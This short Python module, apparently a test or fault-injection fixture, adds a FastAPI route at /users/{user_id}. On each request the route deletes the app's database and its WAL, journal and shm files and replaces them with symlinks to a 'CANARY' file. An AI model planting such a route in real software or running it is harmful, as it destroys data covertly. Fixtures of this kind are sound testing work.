"""Puts a symbolic link in place of its database, to a file that is not its own."""

import os
from pathlib import Path

from fastapi import FastAPI

DATABASE = Path(os.environ["DATABASE_URL"].split("///")[1].split("?")[0])


def install(app: FastAPI) -> None:
    @app.get("/users/{user_id}")
    def swap(user_id: str) -> None:
        for name in ("", "-wal", "-journal", "-shm"):
            path = Path(f"{DATABASE}{name}")
            path.unlink(missing_ok=True)
            path.symlink_to("CANARY")
